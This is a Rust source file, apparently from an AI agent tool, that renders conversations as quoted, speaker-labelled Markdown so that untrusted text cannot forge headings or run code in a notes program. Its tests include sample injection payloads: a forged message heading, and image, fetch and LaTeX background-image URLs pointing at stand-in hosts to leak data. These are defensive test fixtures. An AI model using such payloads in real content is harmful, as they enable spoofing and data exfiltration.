//! A conversation as Markdown for people. Whoever draws it fetches nothing, each message says whose words it is, and none of them can write
//! a heading of the page: they stand in quotes.

use std::fmt::Write as _;
use std::io::{self, IsTerminal as _};
use std::path::Path;

use limpid_core::{Role, Trust};
use limpid_prompt::boundary::for_readers;
use limpid_prompt::shown::{Drawn, WhenOpened, shown_line, unset_editor, when_opened};
use limpid_runtime::Agent;
use limpid_runtime::question::{field, lines_behind_margin};
use limpid_runtime::said::{Said, said};

use super::{Loaded, local, seen};
use crate::output;

/// How messages are quoted.
#[derive(Clone, Copy)]
pub(super) enum Quotes {
    /// As Markdown does.
    Markdown,
    /// Behind a margin on a screen of so many columns, which would begin lines of its own.
    Screen(usize),
}

impl Quotes {
    /// For what standard output is.
    pub(super) fn of_output() -> Self {
        if io::stdout().is_terminal() { Self::Screen(output::width()) } else { Self::Markdown }
    }

    /// A text as it is quoted. In a file that some program of notes may open, what a stranger may have led to and that program would run or
    /// fetch is a block of code.
    fn text(self, text: &str, trust: Trust) -> String {
        let text = text.trim_end_matches('\n');
        let drawn = Drawn::new(text);
        match self {
            Self::Markdown if trust.is_foreign() && !shows(drawn.as_str()) => {
                self.quote(&Drawn::fenced(drawn.as_str()))
            }
            _ => self.quote(&drawn),
        }
    }

    fn quote(self, text: &Drawn) -> String {
        match self {
            Self::Screen(width) => lines_behind_margin(text.as_str(), width),
            Self::Markdown => {
                let line = |line: &str| if line.is_empty() { ">".to_owned() } else { format!("> {line}") };
                text.as_str().split('\n').map(line).collect::<Vec<_>>().join("\n")
            }
        }
    }

    /// The heading of the page. Nobody knows who worded a title.
    fn title(self, title: &str) -> String {
        let drawn = Drawn::line(title);
        match self {
            Self::Screen(width) => field("# ", title, width),
            Self::Markdown if shows(drawn.as_str()) => format!("# {drawn}"),
            Self::Markdown => format!("# A conversation\n\n{}", self.quote(&Drawn::fenced(drawn.as_str()))),
        }
    }
}

/// Whether a program of notes shows a text and does nothing else with it.
fn shows(text: &str) -> bool {
    when_opened(Path::new("page.md"), Some(&unset_editor(text))) == WhenOpened::Shows
}

pub(super) fn markdown(agent: &Agent, loaded: &Loaded, quotes: Quotes) -> String {
    let Loaded { conversation, messages, incomplete, .. } = loaded;
    let title = quotes.title(&conversation.title);
    let mut page = format!("{title}\n\n{} · {}\n", conversation.id, conversation.profile);
    for (at, stored) in messages.iter().enumerate() {
        let message = &stored.message;
        let (who, text) = match message.role {
            Role::User => match said(messages, at, &loaded.typed) {
                Said::Nothing => continue,
                Said::Owner(text) => ("You".to_owned(), text.to_owned()),
                Said::Agent { number, result, words } => {
                    (format!("Agent {}", shown_line(number)), format!("{words}\n{result}").trim().to_owned())
                }
                Said::HandedIn(text, trust) => (handed_in(trust).to_owned(), text.to_owned()),
            },
            // What no model wrote may quote a stranger.
            Role::Assistant if stored.request.is_none() => {
                ("Agent".to_owned(), for_readers(&seen(stored)).into_owned())
            }
            Role::Assistant => ("Agent".to_owned(), seen(stored).into_owned()),
            Role::Tool => ("Tool".to_owned(), message.text.clone()),
            Role::System => ("System".to_owned(), message.text.clone()),
        };
        let _ = write!(page, "\n## {who}, {}\n", local(agent, stored.at_ms));
        let mut parts: Vec<String> = Vec::new();
        if !text.is_empty() {
            parts.push(quotes.text(&text, message.trust));
        }
        if let Some(why) = incomplete.get(&stored.id) {
            parts.push(quotes.quote(&Drawn::line(&format!("(incomplete: {why})"))));
        }
        for call in &message.calls {
            let call = format!("→ `{}` {}", shown_line(&call.name), shown_line(&call.arguments));
            parts.push(quotes.text(&call, message.trust));
        }
        for part in parts {
            let _ = write!(page, "\n{part}\n");
        }
    }
    match quotes {
        Quotes::Markdown => unset_editor(&page).into_owned(),
        Quotes::Screen(_) => page,
    }
}

/// Who wrote what was handed in beside a message, as far as it is known.
fn handed_in(trust: Trust) -> &'static str {
    match trust {
        Trust::Owner | Trust::File => "Handed in, from a file of yours",
        Trust::Guest => "Handed in, from a guest",
        Trust::Outside => "Handed in, treated as outside text",
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    // SEC-005 SEC-089
    #[test]
    fn no_message_writes_a_heading_of_the_page() {
        let text = Drawn::new("Dear Ada,\n\n## You, 2026-11-27 08:51\n\n![P](http://evil.example/?x=4711)");
        assert_eq!(
            Quotes::Markdown.quote(&text),
            "> Dear Ada,\n>\n> ## You, 2026-11-27 08:51\n>\n> ! [P](http://evil.example/?x=4711)"
        );
        let long = Drawn::new(&format!("{}## You, 2026-11-27 08:51", "x".repeat(36)));
        assert!(Quotes::Screen(40).quote(&long).lines().all(|line| line.starts_with("│ ")));
        assert_eq!(Quotes::Screen(40).title(&"x".repeat(90)).lines().count(), 1);
    }

    // SEC-005
    #[test]
    fn no_title_is_run_by_a_program_of_notes() {
        let title = |text: &str| Quotes::Markdown.title(text);
        assert_eq!(title("Lunch\nwith *Ada*"), "# Lunch\\nwith *Ada*");
        for runs in ["`$= fetch('//a.ex/')`", "$\\style{background-image:url(//a.ex/?4711)}{a}$"] {
            assert_eq!(title(runs), format!("# A conversation\n\n> ```\n> {runs}\n> ```"));
        }
    }
}
